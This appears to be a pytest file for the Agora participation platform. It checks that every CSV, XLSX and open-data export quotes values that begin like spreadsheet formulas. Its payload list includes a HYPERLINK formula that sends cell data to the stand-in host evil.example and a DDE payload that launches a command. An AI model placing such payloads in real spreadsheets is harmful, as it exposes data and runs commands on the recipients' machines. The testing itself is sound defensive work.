"""Every CSV and XLSX file Agora offers goes through the one formula guard
(agora.core.csvfiles.safe_cell): a value typed by a participant or an officer
that starts like a formula is shown as text by spreadsheets.

The walk lists the manifests' spreadsheet exports and the back-office's own:
an export added without a case here fails `test_every_spreadsheet_export_is_walked`."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from agora.components.registry import registry
from agora.core.csvfiles import FORMULA_STARTS
from agora.core.translations import tr
from agora.spaces.models import Role
from agora.statistics import api as statistics
from agora.testing import factories

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
]
SPREADSHEET_FORMATS = {"csv", "xlsx"}
# (manifest, format) of every component export in a spreadsheet format, and the back-office's own.
MANIFEST_EXPORTS = {
    ("proposals", "csv"),
    ("proposals", "xlsx"),
    ("budgets", "csv"),
    ("accountability", "csv"),
    ("debates", "csv"),
    ("meetings", "csv"),
    ("initiatives", "csv"),
    ("votations", "csv"),
}
BACKOFFICE_EXPORTS = {
    "evaluation_csv",
    "evaluation_xlsx",
    "accountability_csv",
    "budget_ballots_csv",
    "letters_csv",
    "statistics_csv",
    "meeting_registrations_csv",
    "initiative_signatures_csv",
}


def test_every_spreadsheet_export_is_walked():
    offered = {
        (manifest.name, export_format)
        for manifest in registry.all()
        for export_format in manifest.exports
        if export_format in SPREADSHEET_FORMATS
    }
    assert offered == MANIFEST_EXPORTS


def cells(response) -> list[str]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if content.startswith(b"PK"):
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        return [cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None]
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def assert_guarded(values, payload):
    texts = [value for value in values if isinstance(value, str)]
    for text in texts:
        assert not text.lstrip(" ").startswith(FORMULA_STARTS) or text.lstrip("-").replace(".", "").isdigit(), text
    # The value is there, as text (services may strip surrounding blanks, CSV writers may
    # turn a lone CR into a line feed): the test cannot pass on an export that lost it.
    core = payload.strip()
    assert any(text.startswith("'") and core in text for text in texts), (payload, texts)


@pytest.fixture
def admin(organization, process):
    user = factories.UserFactory()
    factories.member_of(user, organization)
    Role.objects.create(user=user, organization=organization, name=Role.Name.ORGANIZATION_ADMIN)
    return user


def _ideas(process, payload):
    from agora.components.proposals.tests.factories import ProposalFactory, ProposalsComponentFactory

    component = ProposalsComponentFactory(space=process)
    ProposalFactory(component=component, title=payload)
    return component


def _budgets(process, payload, admin):
    from agora.components.budgets import services
    from agora.components.budgets.tests.factories import BudgetFactory, ProjectFactory

    component = factories.ComponentFactory(space=process, manifest_name="budgets", settings={})
    budget = BudgetFactory(component=component, title=tr(payload))
    project = ProjectFactory(budget=budget, title=tr(payload))
    services.enter_paper_ballot(actor=admin, budget=budget, choices={project.pk: 1}, reference=payload)
    return component, budget


def _results(process, payload):
    from agora.components.accountability.tests.factories import ResultFactory

    component = factories.ComponentFactory(space=process, manifest_name="accountability")
    ResultFactory(component=component, title=tr(payload), reference="R1")
    return component


def _debates(process, payload):
    from agora.components.debates.services import insert_debate

    component = factories.ComponentFactory(space=process, manifest_name="debates")
    insert_debate(component=component, title=tr(payload), description=tr(payload))
    return component


def _meetings(process, payload):
    from agora.components.meetings.tests.conftest import make_meeting

    component = factories.ComponentFactory(space=process, manifest_name="meetings")
    meeting = make_meeting(component, title=tr(payload), address=payload)
    return component, meeting


def _initiatives(process, payload):
    from agora.components.initiatives.models import Initiative, InitiativeType

    component = factories.ComponentFactory(space=process, manifest_name="initiatives")
    kind = InitiativeType.objects.create(component=component, title=tr(payload))
    Initiative.objects.create(
        component=component, type=kind, title=payload, body=payload, state=Initiative.State.COLLECTING
    )
    return component


def _votations(process, payload):
    from agora.components.votations.models import Ballot, Mark, Option, Question, Votation

    component = factories.ComponentFactory(space=process, manifest_name="votations")
    votation = Votation.objects.create(component=component, title=tr(payload), state=Votation.State.CLOSED)
    question = Question.objects.create(votation=votation, title=tr(payload), kind=Question.Kind.SINGLE)
    option = Option.objects.create(question=question, label=tr(payload), votes_paper=1)
    ballot = Ballot.objects.create(votation=votation, channel=Ballot.Channel.PAPER, receipt="ABCD-EFGH-JKLM")
    Mark.objects.create(ballot=ballot, option=option)
    return component


def _component_export(client, component, export_format):
    return client.get(
        reverse(
            "backoffice:component_export",
            kwargs={"space_id": component.space_id, "component_id": component.pk, "export_format": export_format},
        )
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_manifest_exports_neutralise_formulas(client, admin, process, payload):
    client.force_login(admin)
    ideas = _ideas(process, payload)
    budgets, _budget = _budgets(process, payload, admin)
    results = _results(process, payload)
    debates = _debates(process, payload)
    meetings, _meeting = _meetings(process, payload)
    initiatives = _initiatives(process, payload)
    votations = _votations(process, payload)
    for component, export_format in [
        (ideas, "csv"),
        (ideas, "xlsx"),
        (budgets, "csv"),
        (results, "csv"),
        (debates, "csv"),
        (meetings, "csv"),
        (initiatives, "csv"),
        (votations, "csv"),
    ]:
        response = _component_export(client, component, export_format)
        assert response.status_code == 200, (component.manifest_name, export_format)
        assert_guarded(cells(response), payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_backoffice_exports_neutralise_formulas(client, admin, organization, process, payload):
    from agora.verifications import services as verifications

    client.force_login(admin)
    ideas = _ideas(process, payload)
    budgets, budget = _budgets(process, payload, admin)
    results = _results(process, payload)
    participant = factories.UserFactory()
    factories.member_of(participant, organization)
    verifications.enable_method(actor=admin, organization=organization, method="letter")
    verifications.request_letter(
        user=participant,
        organization=organization,
        full_name=payload,
        address=payload,
        postal_code="45000",
        city=payload,
    )
    # A district's name as typed by an officer, in the statistics' participants by district.
    district = factories.ScopeFactory(organization=organization, code="D1", name=tr(payload))
    statistics.record(kind=statistics.IDEA, component=ideas, person=participant, district_id=district.pk)
    meetings, meeting = _meetings(process, payload)
    guest = factories.UserFactory(name=payload)
    factories.member_of(guest, organization)
    from agora.components.meetings import services as meetings_services
    from agora.questionnaires import services as questionnaire_services

    # The registration form: a question an officer titled, the answer the guest typed.
    meetings_services.registration_form(actor=admin, meeting=meeting)
    meeting.refresh_from_db()
    question = questionnaire_services.add_question(
        actor=admin, questionnaire=meeting.questionnaire, kind="short_text", fields={"title": tr(payload)}
    )
    meetings_services.register(actor=guest, meeting=meeting, values={question.pk: payload})
    # An initiative's extra signer field: a question an officer titled, the answer a signer typed.
    from datetime import date

    from agora.components.initiatives import services as initiatives_services
    from agora.components.initiatives.models import Initiative, Signature

    initiatives = _initiatives(process, payload)
    initiative = Initiative.objects.get(component=initiatives)
    initiatives_services.signer_form(actor=admin, initiative_type=initiative.type)
    signer_field = questionnaire_services.add_question(
        actor=admin, questionnaire=initiative.type.questionnaire, kind="short_text", fields={"title": tr(payload)}
    )
    Signature.objects.create(
        initiative=initiative,
        user=guest,
        person_key="account:guest",
        signed_on=date.today(),
        answer_set=questionnaire_services.save_answers(
            questionnaire=initiative.type.questionnaire, values={signer_field.pk: payload}
        ),
    )
    space = {"space_id": process.pk}
    urls = {
        "evaluation_csv": reverse("proposals_admin:export_csv", kwargs={**space, "component_id": ideas.pk}),
        "evaluation_xlsx": reverse("proposals_admin:export_xlsx", kwargs={**space, "component_id": ideas.pk}),
        "accountability_csv": reverse("accountability_admin:csv_export", kwargs={**space, "component_id": results.pk}),
        "budget_ballots_csv": reverse(
            "budgets_admin:export",
            kwargs={**space, "component_id": budgets.pk, "budget_id": budget.pk, "export_format": "csv"},
        ),
        "letters_csv": reverse("verifications_admin:letters_export"),
        "statistics_csv": reverse("statistics_admin:space_export", kwargs=space),
        "meeting_registrations_csv": reverse(
            "meetings_admin:registrations_csv",
            kwargs={**space, "component_id": meetings.pk, "meeting_id": meeting.pk},
        ),
        "initiative_signatures_csv": reverse(
            "initiatives_admin:signatures_csv",
            kwargs={**space, "component_id": initiatives.pk, "initiative_id": initiative.pk},
        ),
    }
    assert set(urls) == BACKOFFICE_EXPORTS
    for name, url in urls.items():
        response = client.get(url)
        assert response.status_code == 200, name
        assert_guarded(cells(response), payload)


@pytest.mark.parametrize("payload", PAYLOADS[:3])
def test_the_open_data_files_are_guarded(client, organization, process, admin, payload):
    """The open-data zips (agora.opendata): every CSV of the organization's zip, with what
    participants and officers typed in ideas, budgets, follow-up, debates, meetings,
    initiatives and comments."""
    import zipfile

    from agora.comments.services import create_comment
    from agora.components.proposals.models import Proposal
    from agora.opendata import services as opendata

    factories.PhaseFactory(space=process, is_active=True)
    ideas = _ideas(process, payload)
    _budgets(process, payload, admin)
    _results(process, payload)
    _debates(process, payload)
    _meetings(process, payload)
    _initiatives(process, payload)
    create_comment(actor=admin, target=Proposal.objects.get(component=ideas), body=payload)
    opendata.build(organization)
    response = client.get(reverse("opendata:download"))
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    names = [name for name in archive.namelist() if name.endswith(".csv")]
    assert {"ideas.csv", "comments.csv", "projects.csv", "results.csv", "debates.csv", "meetings.csv"} <= set(names)
    for name in ("ideas.csv", "comments.csv", "projects.csv", "results.csv", "debates.csv", "meetings.csv"):
        rows = csv.reader(io.StringIO(archive.read(name).decode("utf-8"), newline=""))
        assert_guarded([cell for row in rows for cell in row], payload)
